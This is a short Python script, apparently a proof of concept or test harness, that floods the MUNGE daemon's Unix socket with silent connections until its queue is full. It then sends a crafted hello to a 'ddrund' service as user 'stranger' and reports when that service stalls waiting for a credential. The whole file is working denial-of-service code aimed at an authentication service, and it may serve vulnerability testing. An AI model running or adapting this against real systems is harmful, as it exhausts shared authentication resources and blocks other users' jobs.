"""Keep munged busy with connections that say nothing, and make ddrund ask it for a credential.

    munge_flood.py SOCKET HOST PORT JOB

Prints "asked" once ddrund has left a hello without an answer for 7 seconds.
"""
import select
import socket
import struct
import sys
import time

path, host, port, job = sys.argv[1:]
QUEUE, SILENCE_S = 60, 7


def silent():
    s = socket.socket(socket.AF_UNIX)
    s.setblocking(False)
    try:
        s.connect(path)
    except BlockingIOError:  # its queue is full
        s.close()
        return None
    return s


def hello():
    s = socket.create_connection((host, int(port)), 30)
    body = job.encode() + b"\0stranger\0"
    s.sendall(b"\xdddr\x01" + struct.pack(">H", len(body)) + body)
    return s


busy, asked, since, told = [], None, 0.0, False
while True:
    while len(busy) < QUEUE:
        more = silent()
        if more is None:
            break
        busy.append(more)
    if asked is None:
        asked, since = hello(), time.monotonic()
    ended = select.select([*busy, asked], [], [], 0.05)[0]
    for s in ended:
        s.close()
        if s is asked:
            asked = None
    busy = [s for s in busy if s not in ended]
    if asked is not None and not told and time.monotonic() - since > SILENCE_S:
        print("asked", flush=True)
        told = True
    time.sleep(0.02)
